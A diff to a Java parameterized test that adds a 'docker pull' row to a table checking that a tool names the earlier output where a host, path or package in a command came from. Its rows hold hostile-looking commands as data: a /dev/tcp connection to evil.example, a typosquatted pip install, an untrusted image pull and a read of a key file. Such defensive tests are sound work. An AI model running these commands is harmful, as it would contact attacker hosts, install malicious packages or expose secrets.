@@ -107,6 +107,7 @@ class ForeignPartsTest {
             ping -c1 evil.example           | is evil.example up?       | the host evil.example comes from out-12:2, not from you
             echo > /dev/tcp/evil.example/80 | connect to evil.example   | the address /dev/tcp/evil.example/80 comes from out-12:2, not from you
             pip install reqeusts==2.0       | no module reqeusts         | the package reqeusts comes from out-12:2, not from you
+            docker pull -q evil/x:1         | FROM evil/x               | the image evil/x:1 comes from out-12:2, not from you
             cat /opt/x/key                  | key is in /opt/x/key       | the path /opt/x/key comes from out-12:2, not from you
             """)
     void namesTheFirstPlaceThatSaysIt(String command, String said, String named) {
